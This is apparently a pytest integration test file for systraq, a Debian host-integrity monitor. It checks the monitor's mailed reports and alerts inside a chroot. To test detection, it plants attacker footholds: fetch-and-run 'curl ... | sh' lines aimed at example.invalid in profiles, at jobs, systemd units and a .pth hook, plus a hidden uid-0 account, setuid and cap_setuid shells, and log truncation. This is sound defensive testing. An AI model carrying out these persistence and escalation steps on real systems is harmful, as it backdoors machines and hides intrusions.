# SPDX-License-Identifier: GPL-2.0-or-later
"""The report and the alerts, mailed through Debian's default MTA (exim4)
in a fresh chroot of the release under test, and read back from the recipient's mailbox.

The tests run in file order on one chroot: each is a day of an admin's
life with the package.  Every systraq command runs in a network
namespace of its own, so that the listening sockets the report sees are
the ones a test starts, not the host's.
"""

import json
import re

import pytest

from tests.chroot import SUITE
from tests.package.conftest import mailbox, wait_for_first_baseline, wait_for_mail

USER = "debian-systraq"
ADMIN = "admin"
MBOX = f"/var/mail/{ADMIN}"


def body(message):
    return message.get_content()


def warnings_section(text):
    start = text.index("1. Warnings\n")
    return text[start:text.index("2. Changes made by package operations\n")]


def logins_section(text):
    """The lines of the report's Recent logins section (indented under
    its title, up to the next title)."""
    lines = text.splitlines()
    start = lines.index("Recent logins") + 1
    end = next((n for n in range(start, len(lines)) if not lines[n].startswith("  ")),
               len(lines))
    return "\n".join(lines[start:end])


def systraq(chroot, command, check=False):
    """Run systraq as root; ``check``: fail unless it exits 0 (a command
    that found changes exits 1)."""
    return chroot.run(f"systraq {command}", check=check, net=True)


def test_installed_with_exim4_and_first_runs(chroot, deb):
    chroot.copy_in(deb, "/tmp/systraq.deb")
    # The machine has its accounts before systraq comes (the installation
    # records the first baseline).
    chroot.run(f"useradd -m -s /bin/bash {ADMIN}")
    chroot.run("useradd -m -s /bin/bash eve && chmod 0700 /home/eve")
    # Where mail goes is asked by debconf; preseeded here, as an admin
    # installing many machines would.
    chroot.run(f"echo 'systraq systraq/mailto string {ADMIN}' | debconf-set-selections")
    # setcap (libcap2-bin) and at are the attacker's tools of later tests.
    chroot.apt_install("/tmp/systraq.deb", "exim4-daemon-light", "libcap2-bin", "at")
    wait_for_first_baseline(chroot)
    # Mail goes to an ordinary user: Debian's exim4 delivers nothing to
    # root until an alias says where root's mail goes.  The fill level
    # is the host's disk, which a test must not depend on.  Edited by
    # hand once apt is done, systraq.conf's change is the admin's, not
    # the installation's: a critical file, alerted at once.
    conf = chroot.read("/etc/systraq/systraq.conf").decode()
    assert f"\nmailto = {ADMIN}\n" in conf
    conf = conf.replace("\n[report]\n", "\n[report]\nfill_warning = 100\n")
    chroot.write("/etc/systraq/systraq.conf", conf)
    for command in ("audit", "check", "packages"):
        result = systraq(chroot, command)
        assert result.returncode in (0, 1), result.stderr
    (alert,) = wait_for_mail(chroot, 1)
    assert alert["Subject"].endswith(": alert: /etc/systraq/systraq.conf changed")
    assert "+fill_warning = 100" in body(alert)
    result = systraq(chroot, "report")
    assert result.returncode == 1 and result.stdout == "" and result.stderr == ""
    first = wait_for_mail(chroot, 2)[-1]
    # The first report goes out whatever it says: it proves mail works.
    assert first["Subject"].endswith(": 1 warning")
    assert first["Auto-Submitted"] == "auto-generated"
    assert first["From"].addresses[0].username == USER
    text = body(first)
    assert warnings_section(text).startswith(
        "1. Warnings\n-----------\n* /etc/systraq/systraq.conf: content changed"), text
    assert "[critical; alert sent " in warnings_section(text)
    assert "snapshot pub: first run" in text and "contents pub: first run" in text


def test_a_clean_day_mails_nothing_and_the_weekly_report_says_no_warnings(chroot):
    systraq(chroot, "check")
    shown = systraq(chroot, "report --stdout").stdout
    assert "No warnings." in shown, shown
    result = systraq(chroot, "report")
    assert result.returncode == 0, result.stdout + result.stderr
    assert len(wait_for_mail(chroot, 2)) == 2
    # Seven days later by the report's own clock.
    state = json.loads(chroot.read("/var/lib/systraq/report.state"))
    state["last_mailed"] -= 8 * 86400
    chroot.write("/var/lib/systraq/report.state", json.dumps(state), mode=0o640)
    chroot.run(f"chown {USER}: /var/lib/systraq/report.state")
    systraq(chroot, "report", check=True)
    weekly = wait_for_mail(chroot, 3)[-1]
    assert weekly["Subject"].endswith(": no warnings")
    assert "No warnings." in body(weekly)


def test_a_critical_change_is_alerted_at_once_and_once(chroot):
    chroot.run("useradd -s /bin/sh mallory")
    assert systraq(chroot, "check").returncode == 1
    alert = wait_for_mail(chroot, 4)[-1]
    assert "alert:" in alert["Subject"]
    assert "/etc/passwd" in body(alert)
    systraq(chroot, "check")
    assert len(wait_for_mail(chroot, 4)) == 4


def test_a_changed_file_is_in_the_warnings_of_the_daily_report(chroot):
    with open(chroot.host("/etc/motd"), "a") as motd:
        motd.write("Maintenance on Saturday.\n")
    systraq(chroot, "check")
    assert len(wait_for_mail(chroot, 4)) == 4, "/etc/motd is not critical: no alert"
    assert systraq(chroot, "report").returncode == 1
    daily = wait_for_mail(chroot, 5)[-1]
    assert daily["Subject"].endswith(" warnings") and "no warnings" not in daily["Subject"]
    section = warnings_section(body(daily))
    assert "* /etc/motd: content changed" in section
    assert "    +Maintenance on Saturday." in section
    # The alerted change is listed again, marked.
    assert "/etc/passwd: content changed" in section and "alert sent" in section


def test_a_failing_sendmail_keeps_the_report_and_the_next_run_delivers_it_once(chroot):
    with open(chroot.host("/etc/issue.net"), "a") as issue:
        issue.write("Authorised use only.\n")
    systraq(chroot, "check")
    chroot.run("mv /usr/sbin/sendmail /usr/sbin/sendmail.real && "
               "printf '#!/bin/sh\\necho queue full >&2\\nexit 75\\n' > /usr/sbin/sendmail && "
               "chmod 755 /usr/sbin/sendmail")
    result = systraq(chroot, "report")
    assert result.returncode == 3
    assert "exited with status 75: queue full" in result.stderr
    assert "kept in /var/lib/systraq/reports/undelivered-" in result.stderr
    assert chroot.run("ls /var/lib/systraq/reports").stdout.startswith("undelivered-")
    chroot.run("mv /usr/sbin/sendmail.real /usr/sbin/sendmail")
    assert systraq(chroot, "report").returncode == 1
    found = wait_for_mail(chroot, 6)
    assert sum("Authorised use only." in body(m) for m in found) == 1
    assert chroot.run("ls /var/lib/systraq/reports").stdout == ""
    # Delivered: the next day it is not there any more.
    out = systraq(chroot, "report --stdout").stdout
    assert "issue.net" not in warnings_section(out)


def test_security_checks_warn_about_uid_0_path_dot_setuid_capabilities_and_a_new_port(chroot):
    chroot.run("echo 'toor:x:0:0:spare root:/root:/bin/sh' >> /etc/passwd && "
               "echo 'toor:*:20000:0:99999:7:::' >> /etc/shadow")
    with open(chroot.host("/home/eve/.bashrc"), "a") as bashrc:
        bashrc.write('PATH=".:$PATH"\n')
    chroot.run("cp /bin/dash /tmp/.hidden && chmod 4755 /tmp/.hidden")
    # A root shell without a setuid bit (ATT&CK T1548.001): python3 that
    # may setuid(0).
    chroot.run("cp /usr/bin/python3 /var/tmp/.py && setcap cap_setuid+ep /var/tmp/.py")
    assert systraq(chroot, "audit").returncode == 1
    # A listener for the length of the report, in the report's namespace;
    # the report starts once it listens.
    result = chroot.run(
        "rm -f /tmp/listening; python3 -c 'import socket,time; s=socket.socket(); "
        "s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); "
        "s.bind((\"0.0.0.0\", 48123)); s.listen(); open(\"/tmp/listening\", \"w\"); "
        "time.sleep(600)' & "
        "until [ -e /tmp/listening ]; do sleep 0.05; done; "
        "systraq report; status=$?; kill $!; exit $status", check=False, net=True)
    assert result.returncode == 1, result.stderr
    report = wait_for_mail(chroot, 7)[-1]
    section = warnings_section(body(report))
    assert "toor" in section and "uid 0" in section
    assert "/home/eve/.bashrc" in section and "PATH" in section
    assert "/tmp/.hidden" in section and "setuid" in section
    assert "* /var/tmp/.py: capabilities added (cap_setuid=ep, mode 0755, root:root)" \
        in section, section
    assert "0.0.0.0:48123" in section


@pytest.mark.skipif(SUITE == "bookworm", reason="bookworm records logins in /var/log/wtmp")
def test_recent_logins_are_read_from_wtmpdb(chroot):
    # trixie's wtmpdb: its database is made at the first login recorded,
    # upstream's path a link to it until then.
    chroot.apt_install("wtmpdb", "libpam-wtmpdb")
    assert not chroot.exists("/var/log/wtmp.db")
    result = systraq(chroot, "report --stdout")
    assert "cannot read" not in result.stdout and result.stderr == ""
    assert "no logins recorded yet" in logins_section(result.stdout), result.stdout
    # A login through PAM, on a terminal: pam_wtmpdb records it.
    chroot.run(f"script -qec 'su - {ADMIN} -c true' /dev/null")
    assert "admin" in chroot.run("wtmpdb last").stdout
    shown = logins_section(systraq(chroot, "report --stdout").stdout)
    assert re.search(rf"\b{ADMIN}\s+pts/\d+", shown), shown


def test_start_up_files_of_closed_homes_and_of_root_are_watched(chroot):
    # eve's home is 0700 (the first test) and root's is /root: the pub
    # job cannot enter them, the hourly root job reads their shell
    # start-up files, and tells what changed without content.
    with open(chroot.host("/root/.profile"), "a") as profile:
        profile.write("curl -s http://example.invalid/x | sh\n")
    chroot.write("/root/.bash_profile", "curl -s http://example.invalid/y | sh\n", mode=0o600)
    chroot.run("mv /home/eve/.bashrc /home/eve/.bashrc.orig && "
               "ln -s /tmp/.evil /home/eve/.bashrc && chown -h eve: /home/eve/.bashrc")
    assert systraq(chroot, "check").returncode == 1
    result = systraq(chroot, "report --stdout")
    section = warnings_section(result.stdout)
    assert "* /root/.profile: content changed" in section, section
    assert "* /root/.bash_profile: new" in section, section
    # (eve's .bashrc also stands in the audit's findings, from an earlier
    # test, until the next audit.)
    lines = [x for x in section.splitlines() if x.startswith("* /home/eve/.bashrc:")]
    assert any("link" in x and "/tmp/.evil" in x for x in lines), section
    assert "example.invalid" not in result.stdout


def settled_mail(chroot):
    """How many messages the mailbox holds once exim's queue is run."""
    chroot.run("exim4 -qff", check=False)
    return len(wait_for_mail(chroot, len(mailbox(chroot))))


def test_footholds_where_attackers_persist_are_alerted_and_secrets_told_without_content(chroot):
    # A root-only file no list names, as the firewall keeps its rules.
    chroot.run("mkdir -p /etc/ufw && chmod 0755 /etc/ufw")
    chroot.write("/etc/ufw/user.rules", "-A ufw-user-input -p tcp --dport 22 -j ACCEPT\n",
                 mode=0o640)
    systraq(chroot, "check")
    systraq(chroot, "report")
    count = settled_mail(chroot)
    # The footholds: an at job, a systemd user unit, a Python start-up hook,
    # and the firewall opened.
    queued = chroot.run("echo 'curl -s http://example.invalid/a | sh' | at now + 1 hour",
                        user=ADMIN, check=False)
    jobs = chroot.run("ls /var/spool/cron/atjobs").stdout.split()
    assert [j for j in jobs if not j.startswith(".")], queued.stderr
    chroot.run(f"mkdir -p /home/{ADMIN}/.config/systemd/user", user=ADMIN)
    chroot.write(f"/home/{ADMIN}/.config/systemd/user/agent.service",
                 "[Service]\nExecStart=/bin/sh -c 'curl -s http://example.invalid/u | sh'\n")
    chroot.run(f"chown {ADMIN}: /home/{ADMIN}/.config/systemd/user/agent.service")
    chroot.write("/usr/lib/python3/dist-packages/zz-hook.pth",
                 "import os; os.system('curl -s http://example.invalid/p | sh')\n")
    chroot.write("/etc/ufw/user.rules", "-A ufw-user-input -j ACCEPT\n", mode=0o640)
    assert systraq(chroot, "check").returncode == 1
    alert = body(wait_for_mail(chroot, count + 1)[-1])
    assert "/var/spool/cron/atjobs/" in alert, alert
    assert f"/home/{ADMIN}/.config/systemd/user/agent.service" in alert, alert
    assert "/usr/lib/python3/dist-packages/zz-hook.pth" in alert, alert
    result = systraq(chroot, "report --stdout")
    section = warnings_section(result.stdout)
    assert "* /etc/ufw/user.rules: content changed" in section, section
    assert "/var/spool/cron/atjobs/" in section and "agent.service" in section, section
    assert "ACCEPT" not in result.stdout and "example.invalid" not in result.stdout + alert


def test_a_log_cut_outside_its_rotation_is_a_warning(chroot):
    # auth.log as rsyslog keeps it (trixie installs no syslog daemon by
    # default), then rotated as logrotate does: no news.
    lines = "".join(f"Dec  2 10:{n:02d}:00 host sshd[9]: Accepted password for {ADMIN}\n"
                    for n in range(30))
    chroot.write("/var/log/auth.log", lines, mode=0o640)
    systraq(chroot, "check")
    chroot.run("mv /var/log/auth.log /var/log/auth.log.1 && install -m 0640 /dev/null "
               "/var/log/auth.log")
    systraq(chroot, "check")
    assert "/var/log/auth.log" not in warnings_section(systraq(chroot, "report --stdout").stdout)
    # The intruder cuts his lines out.
    chroot.write("/var/log/auth.log", lines, mode=0o640)
    systraq(chroot, "check")
    with open(chroot.host("/var/log/auth.log"), "r+") as log:
        log.truncate(len(lines) // 2)
    systraq(chroot, "check")
    result = systraq(chroot, "report --stdout")
    section = warnings_section(result.stdout)
    assert (f"* /var/log/auth.log: log shrank from {len(lines)} to {len(lines) // 2} bytes, "
            "not by its rotation") in section, section
    assert "Accepted password" not in result.stdout
